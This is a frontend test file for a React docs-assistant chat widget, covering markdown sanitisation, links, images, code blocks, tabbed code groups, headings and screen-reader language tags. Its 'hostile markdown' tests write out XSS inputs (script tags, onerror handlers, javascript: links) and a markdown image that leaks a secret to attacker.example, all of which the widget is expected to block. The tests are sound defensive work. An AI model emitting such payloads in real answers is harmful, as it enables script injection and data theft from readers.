import { cleanup, render, screen, waitFor, within } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { DocsAssistant, type DocsAssistantEvent } from '../../src/index.ts';
import { answerChunks, installFakeFetch, streamResponse } from './fakeServer.ts';

const baseUrl = 'https://docs-api.example.test';

async function answerWith(markdown: string, sources: { url: string; title?: string }[] = [], onEvent = vi.fn<(event: DocsAssistantEvent) => void>()) {
  installFakeFetch(() => streamResponse(answerChunks({ text: [markdown], sources })));
  render(<DocsAssistant domain="acme" baseUrl={baseUrl} fingerprint={false} defaultOpen onEvent={onEvent} />);
  const user = userEvent.setup();
  const dialog = await screen.findByRole('dialog', { name: 'Ask the docs' });
  await user.type(within(dialog).getByRole('textbox', { name: 'Your question' }), 'Question{Enter}');
  await waitFor(() => expect(dialog.getAttribute('data-status')).toBe('ready'));
  const answer = dialog.querySelector('[data-role="assistant"]') as HTMLElement;
  return { user, dialog, answer, onEvent };
}

describe('given an answer with hostile markdown', () => {
  it('renders raw HTML as inert text, never as elements', async () => {
    const { answer } = await answerWith('Before <script>window.hacked = true</script> <img src="x" onerror="alert(1)"> <iframe src="https://evil.example"></iframe> after');
    expect(answer.querySelector('script, iframe, img')).toBeNull();
    expect(answer.textContent).toContain('Before');
    expect(answer.textContent).toContain('after');
    expect((window as { hacked?: boolean }).hacked).toBeUndefined();
  });

  it('drops javascript:, data: and vbscript: links but keeps their text', async () => {
    const { answer } = await answerWith('[one](javascript:alert(1)) [two](data:text/html,<b>x</b>) [three](vbscript:msgbox) [four](java\tscript:alert(1))');
    expect(within(answer).queryAllByRole('link')).toHaveLength(0);
    expect(answer.textContent).toContain('one');
    expect(answer.textContent).toContain('four');
  });

  it('keeps http(s), mailto and relative links; external ones open safely in a new tab', async () => {
    const { answer } = await answerWith('[ext](https://example.org/page) [mail](mailto:help@example.org) [docs](/docs/intro)');
    const external = within(answer).getByRole('link', { name: 'ext' });
    expect(external.getAttribute('target')).toBe('_blank');
    expect(external.getAttribute('rel')).toContain('noopener');
    expect(external.getAttribute('rel')).toContain('noreferrer');
    expect(within(answer).getByRole('link', { name: 'mail' }).getAttribute('href')).toBe('mailto:help@example.org');
    const relative = within(answer).getByRole('link', { name: 'docs' });
    expect(relative.getAttribute('href')).toBe('/docs/intro');
    expect(relative.getAttribute('target')).toBeNull();
  });

  it('never loads images from other origins (no zero-click leaks) but shows same-origin ones', async () => {
    const { answer } = await answerWith('![leak](https://attacker.example/p.png?q=SECRET) ![proto](//attacker.example/x.png) ![logo](/img/logo.png)');
    const images = answer.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]?.getAttribute('src')).toBe('https://docs-api.example.test/img/logo.png');
    expect(document.querySelector('img[src*="attacker"], link[href*="attacker"]')).toBeNull();
    expect(answer.textContent).toContain('leak');
  });

  it('drops sources whose URL is not a safe link', async () => {
    const { dialog } = await answerWith('Answer.', [
      { url: 'javascript:alert(1)', title: 'Evil' },
      { url: 'https://docs.example.test/guide', title: 'Guide' },
    ]);
    const sources = within(dialog).getByRole('list', { name: 'Sources' });
    expect(within(sources).getAllByRole('link').map((link) => link.textContent)).toEqual(['Guide']);
  });
});

describe('given an answer with tables and code', () => {
  it('renders GFM tables', async () => {
    const { answer } = await answerWith('| Option | Default |\n| --- | --- |\n| retrievalPageSize | 5 |');
    const table = within(answer).getByRole('table');
    expect(within(table).getByRole('columnheader', { name: 'Option' })).toBeTruthy();
    expect(within(table).getByRole('cell', { name: 'retrievalPageSize' })).toBeTruthy();
  });

  it('copies a code block with its copy button, and the whole answer with Copy answer', async () => {
    const markdown = 'Run this:\n\n```sh\nnpm install hono\n```';
    const { user, answer, onEvent } = await answerWith(markdown);
    await user.click(within(answer).getByRole('button', { name: 'Copy code' }));
    // Without the fence's last newline: a pasted command waits for the reader's Enter.
    expect(await navigator.clipboard.readText()).toBe('npm install hono');
    expect(await within(answer).findByRole('button', { name: 'Copied' })).toBeTruthy();

    await user.click(within(answer).getByRole('button', { name: 'Copy answer' }));
    expect(await navigator.clipboard.readText()).toBe(markdown);
    expect(onEvent).toHaveBeenCalledWith(expect.objectContaining({ type: 'copy', answer: markdown, messageId: 'msg_answer' }));
  });
});

describe('given an answer with code blocks', () => {
  it('labels each with its language, highlights a known one, and makes it a keyboard-scrollable block', async () => {
    const { answer } = await answerWith('Call it:\n\n```ts\nconst port: number = 8080;\n```\n\nThen:\n\n```\nplain text\n```');
    const blocks = answer.querySelectorAll('.da-code');
    expect([...blocks].map((block) => block.querySelector('.da-code-language')?.textContent)).toEqual(['ts', 'Code']);
    await waitFor(() => expect(blocks[0]?.querySelector('pre .hljs-keyword')?.textContent).toBe('const'));
    expect(blocks[0]?.querySelector('pre')?.textContent).toBe('const port: number = 8080;');
    expect(blocks[1]?.querySelector('pre [class^="hljs-"]')).toBeNull();
    for (const block of blocks) expect(block.querySelector('pre')?.tabIndex).toBe(0);
  });

  it('labels a titled block with its title (a file name, an API style) and still highlights its language', async () => {
    const { answer, dialog } = await answerWith('```bash [npm]\nnpm create vite@latest\n```\n\nOr:\n\n```js [Options API]\nexport default { data: () => ({ count: 0 }) }\n```');
    const blocks = [...answer.querySelectorAll('.da-code')];
    // Announced with each label as its own phrase, not run into the code ("npmnpm create").
    const liveRegion = dialog.querySelector('output[aria-live="polite"]') as HTMLElement;
    await waitFor(() => expect(liveRegion.textContent).toContain('Answer ready. npm npm create vite@latest Or: Options API export default'));
    expect(blocks.map((block) => block.querySelector('.da-code-language')?.textContent)).toEqual(['npm', 'Options API']);
    await waitFor(() => expect(blocks[1]?.querySelector('pre .hljs-keyword')?.textContent).toBe('export'));
    expect(blocks[0]?.querySelector('pre')?.textContent).toBe('npm create vite@latest');
    expect(within(answer).queryByRole('tablist')).toBeNull();
  });

  it('leaves a language it does not know plain, under its name', async () => {
    const { answer } = await answerWith('```cobol\nDISPLAY "HI".\n```');
    expect(answer.querySelector('.da-code-language')?.textContent).toBe('cobol');
    expect(answer.querySelector('pre')?.textContent).toBe('DISPLAY "HI".\n');
  });
});

describe('given an answer with a code group (one command per package manager)', () => {
  const group = 'Install it:\n\n```bash [npm]\nnpm install docs-assistant\n```\n\n```bash [pnpm]\npnpm add docs-assistant\n```\n\n```bash [Yarn]\nyarn add docs-assistant\n```\n\nThen start it.';

  it('shows the group as tabs in one block, the first one chosen, and is heard as that tab and its command', async () => {
    const { answer, dialog } = await answerWith(group);
    expect(answer.querySelectorAll('.da-code')).toHaveLength(1);
    const tabs = within(answer).getAllByRole('tab');
    expect(tabs.map((tab) => tab.textContent)).toEqual(['npm', 'pnpm', 'Yarn']);
    expect(within(answer).getByRole('tab', { selected: true }).textContent).toBe('npm');
    const panel = within(answer).getByRole('tabpanel', { name: 'npm' });
    expect(panel.querySelector('code')?.className).toContain('language-bash');
    expect(panel.querySelector('pre')?.textContent).toBe('npm install docs-assistant');
    expect(answer.textContent).not.toContain('pnpm add');
    const liveRegion = dialog.querySelector('output[aria-live="polite"]') as HTMLElement;
    await waitFor(() => expect(liveRegion.textContent).toBe('Answer ready. Install it: npm npm install docs-assistant Then start it.'));
  });

  it('moves between tabs with the arrow keys, Home and End, as one Tab stop, and copies the tab shown', async () => {
    const { answer, user } = await answerWith(group);
    const [npm, pnpm, yarn] = within(answer).getAllByRole('tab');
    expect([npm, pnpm, yarn].map((tab) => tab?.tabIndex)).toEqual([0, -1, -1]);
    npm?.focus();
    await user.keyboard('{ArrowRight}');
    expect(document.activeElement).toBe(pnpm);
    expect(within(answer).getByRole('tabpanel', { name: 'pnpm' }).textContent).toBe('pnpm add docs-assistant');
    expect([npm, pnpm, yarn].map((tab) => tab?.tabIndex)).toEqual([-1, 0, -1]);
    await user.keyboard('{End}');
    expect(within(answer).getByRole('tab', { selected: true })).toBe(yarn);
    await user.keyboard('{ArrowRight}');
    expect(document.activeElement).toBe(npm);
    await user.keyboard('{ArrowLeft}');
    expect(document.activeElement).toBe(yarn);
    await user.keyboard('{Home}');
    expect(within(answer).getByRole('tab', { selected: true })).toBe(npm);
    await user.click(pnpm as HTMLElement);
    await user.click(within(answer).getByRole('button', { name: 'Copy code' }));
    await expect(navigator.clipboard.readText()).resolves.toBe('pnpm add docs-assistant');
  });

  it('opens a later answer\'s code group on the tab the reader picked in an earlier one', async () => {
    const { answer, user, dialog } = await answerWith(group);
    installFakeFetch(() => streamResponse(answerChunks({ text: [group], messageId: 'msg_later' })));
    await user.click(within(answer).getByRole('tab', { name: 'Yarn' }));
    await user.type(within(dialog).getByRole('textbox', { name: 'Your question' }), 'And to update it?{Enter}');
    await waitFor(() => expect(dialog.querySelectorAll('[data-role="assistant"]')).toHaveLength(2));
    await waitFor(() => expect(dialog.getAttribute('data-status')).toBe('ready'));
    const later = dialog.querySelectorAll<HTMLElement>('[data-role="assistant"]')[1] as HTMLElement;
    expect(within(later).getByRole('tab', { selected: true }).textContent).toBe('Yarn');
    expect(within(answer).getByRole('tab', { selected: true }).textContent).toBe('Yarn');
  });

  it('keeps the reader\'s pick for the next page: a new widget opens a code group on it', async () => {
    const first = await answerWith(group);
    expect(within(first.answer).getByRole('tab', { selected: true }).textContent).toBe('npm');
    await first.user.click(within(first.answer).getByRole('tab', { name: 'Yarn' }));
    cleanup();
    const next = await answerWith(group);
    expect(within(next.answer).getByRole('tab', { selected: true }).textContent).toBe('Yarn');
    expect(within(next.answer).getByRole('tablist', { name: 'Code' })).toBeTruthy();
  });

  it('opens on the tab the question names ("pnpm", not the "npm" it holds)', async () => {
    installFakeFetch(() => streamResponse(answerChunks({ text: [group] })));
    render(<DocsAssistant domain="acme" baseUrl={baseUrl} fingerprint={false} defaultOpen />);
    const user = userEvent.setup();
    const dialog = await screen.findByRole('dialog', { name: 'Ask the docs' });
    await user.type(within(dialog).getByRole('textbox', { name: 'Your question' }), 'How do I install it with PNPM?{Enter}');
    expect((await within(dialog).findByRole('tab', { selected: true })).textContent).toBe('pnpm');
    expect(within(dialog).getByRole('tabpanel', { name: 'pnpm' }).textContent).toBe('pnpm add docs-assistant');
  });
});

describe('given an answer with headings of any level', () => {
  it('renders them all one level under the dialog title, so the outline never skips', async () => {
    const { answer } = await answerWith('# One\n\ntext\n\n#### Four\n\nmore');
    expect(within(answer).getAllByRole('heading').map((heading) => [heading.tagName, heading.textContent])).toEqual([
      ['H3', 'One'],
      ['H3', 'Four'],
    ]);
  });
});

/** The dialog after a question in Chinese, on a page whose <html lang> is `pageLanguage`. */
async function askInChinese(pageLanguage: string) {
  document.documentElement.lang = pageLanguage;
  const sources = [
    { url: 'https://docs.example.test/middleware/cors', title: 'CORS Middleware' },
    { url: 'https://docs.example.test/zh/middleware', title: '中间件 › 自定义中间件' },
  ];
  installFakeFetch(() => streamResponse(answerChunks({ text: ['文档中没有找到相关内容。以下页面最接近：\n\n- [CORS Middleware](/middleware/cors)\n- [中间件](/zh/middleware)\n\nThe `cors()` middleware sets the headers.'], sources })));
  render(<DocsAssistant domain="acme" baseUrl={baseUrl} fingerprint={false} defaultOpen />);
  const user = userEvent.setup();
  const dialog = await screen.findByRole('dialog', { name: 'Ask the docs' });
  await user.type(within(dialog).getByRole('textbox', { name: 'Your question' }), '如何使用 CORS 中间件？{Enter}');
  await waitFor(() => expect(dialog.getAttribute('data-status')).toBe('ready'));
  return dialog;
}

describe('given a reader who asks in Chinese on a page in English', () => {
  afterEach(() => {
    document.documentElement.lang = '';
  });

  it('marks an answer\'s heading in Chinese, Japanese or Korean as such, for screen readers', async () => {
    document.documentElement.lang = 'en';
    const { answer } = await answerWith('## 自定义指令\n\ntext\n\n## Options\n\nmore');
    expect(within(answer).getAllByRole('heading').map((heading) => [heading.textContent, heading.getAttribute('lang')])).toEqual([
      ['自定义指令', 'zh'],
      ['Options', null],
    ]);
  });

  it('marks the question, each Chinese passage of the answer and each Chinese source title as Chinese, for screen readers, and leaves the English ones in the page\'s language', async () => {
    const dialog = await askInChinese('en');
    expect(dialog.querySelector('[data-role="user"] .da-question')?.getAttribute('lang')).toBe('zh');
    const answer = dialog.querySelector('[data-role="assistant"]') as HTMLElement;
    expect([...answer.querySelectorAll('.da-markdown p, .da-markdown li')].map((passage) => [passage.textContent, passage.getAttribute('lang')])).toEqual([
      ['文档中没有找到相关内容。以下页面最接近：', 'zh'],
      ['CORS Middleware', null],
      ['中间件', 'zh'],
      ['The cors() middleware sets the headers.', null],
    ]);
    const sources = within(answer).getByRole('list', { name: 'Sources' });
    expect(within(sources).getAllByRole('listitem').map((source) => [source.textContent, source.getAttribute('lang')])).toEqual([
      ['CORS Middleware', null],
      ['中间件 › 自定义中间件', 'zh'],
    ]);
  });

  it('marks a table\'s Chinese cells and the starter questions in Chinese', async () => {
    document.documentElement.lang = 'en';
    installFakeFetch(() => streamResponse(answerChunks({ text: ['| 选项 | Type |\n| --- | --- |\n| 端口 | number |'] })));
    render(<DocsAssistant domain="acme" baseUrl={baseUrl} fingerprint={false} defaultOpen starterQuestions={['怎么修改端口？', 'How do I deploy?']} />);
    const user = userEvent.setup();
    const dialog = await screen.findByRole('dialog', { name: 'Ask the docs' });
    expect(within(dialog).getByRole('button', { name: '怎么修改端口？' }).getAttribute('lang')).toBe('zh');
    expect(within(dialog).getByRole('button', { name: 'How do I deploy?' }).getAttribute('lang')).toBeNull();
    await user.click(within(dialog).getByRole('button', { name: '怎么修改端口？' }));
    await waitFor(() => expect(dialog.getAttribute('data-status')).toBe('ready'));
    const cells = [...dialog.querySelectorAll('[data-role="assistant"] th, [data-role="assistant"] td')];
    expect(cells.map((cell) => [cell.textContent, cell.getAttribute('lang')])).toEqual([
      ['选项', 'zh'],
      ['Type', null],
      ['端口', 'zh'],
      ['number', null],
    ]);
  });

  it('marks nothing on a page in Chinese: its own voice reads them (a zh-TW page keeps its own)', async () => {
    const dialog = await askInChinese('zh-TW');
    expect(dialog.querySelectorAll('[lang]')).toHaveLength(0);
  });
});
